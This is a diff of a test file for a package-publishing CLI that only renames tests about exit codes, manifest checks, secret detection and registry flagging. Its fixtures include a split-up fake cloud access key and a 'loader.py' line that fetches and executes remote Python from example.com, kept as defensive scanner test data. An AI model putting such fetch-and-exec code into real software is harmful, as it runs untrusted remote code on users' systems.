@@ -41,7 +41,7 @@ test('the personal access token alone publishes, as from CI', async () => {
   expect((await regen(['version', 'publish', packForTest()], { env: only })).exit).toBe(0);
 });
 
-test('the same files again are exit 5, or 0 with --skip-existing; other files are exit 5 always', async () => {
+test('publishing the same files again exits 5, or 0 with --skip-existing, and other files always exit 5', async () => {
   const { env } = await createAuthor();
   const pack = packForTest();
   await regen(['version', 'publish', pack], { env });
@@ -58,7 +58,7 @@ test('the same files again are exit 5, or 0 with --skip-existing; other files ar
   expect(refused.stderr).toContain(`such as 1.0.1: regen version bump 1.0.1 ${other}\n`);
 });
 
-test('a deleted number is exit 5 and names the next one', async () => {
+test('publishing a deleted version number exits 5 and names the next one', async () => {
   const { env } = await createAuthor();
   await regen(['version', 'publish', packForTest()], { env });
   expect((await regen(['version', 'delete', 'acme', 'pack', '1.0.0', '--yes'], { env })).exit).toBe(0);
@@ -68,7 +68,7 @@ test('a deleted number is exit 5 and names the next one', async () => {
   expect(stderr).toContain('1.0.1');
 });
 
-test('everything wrong with a manifest is said at once, before anything is sent', async () => {
+test('all problems of a manifest are reported before anything is sent', async () => {
   const folder = filesForTest({ 'pyproject.toml': '[project]\nname = "-bad-"\nversion = "1.0rc1"\n' });
   const { exit, stdout, stderr } = await regen(['version', 'publish', folder], {
     env: { REGEN_BASE_URL: 'http://127.0.0.1:9' },
@@ -79,7 +79,7 @@ test('everything wrong with a manifest is said at once, before anything is sent'
   expect(stderr).toContain('PublisherId');
 });
 
-test('secrets are refused by name and place, and never shown', async () => {
+test('secrets are refused with their file and line, and never shown', async () => {
   const secret = ['AKIA', 'Q3EGRIT5X7KLMZPW'].join('');
   const pack = packForTest({ files: { '.env': 'KEY=1\n', 'cloud.py': `\nkey = "${secret}"\n` } });
   const { exit, stderr } = await regen(['version', 'publish', pack], {
@@ -91,7 +91,7 @@ test('secrets are refused by name and place, and never shown', async () => {
   expect(stderr).not.toContain(secret);
 });
 
-test('a token of another publisher is exit 4', async () => {
+test('a token of another publisher exits 4', async () => {
   const { env } = await createAuthor();
   await regen(['publisher', 'create', '--id', 'other', '--name', 'Other'], { env });
   const { stdout: token } = await regen(['publisher', 'token', 'create', 'other', 'x'], { env });
@@ -127,7 +127,7 @@ test('a changelog comes from a flag, a file or standard input', async () => {
   expect(await publish('1.2.0', ['--changelog-file', '-'], 'From a pipe\n')).toBe('From a pipe');
 });
 
-test('an archive that the registry turns down is exit 6 with its reason', async () => {
+test('an archive that the registry flags exits 6 with the reason', async () => {
   const { env } = await createAuthor();
   const pack = packForTest({
     files: {
@@ -142,7 +142,7 @@ test('an archive that the registry turns down is exit 6 with its reason', async 
   expect(stderr).toContain('loader.py');
 });
 
-test('a finding that would flag the version stops before anything is sent', async () => {
+test('a finding that would flag the version stops the publish before anything is sent', async () => {
   const pack = packForTest({
     files: { 'loader.py': 'import requests\nexec(requests.get("https://example.com/x.py").text)\n' },
   });
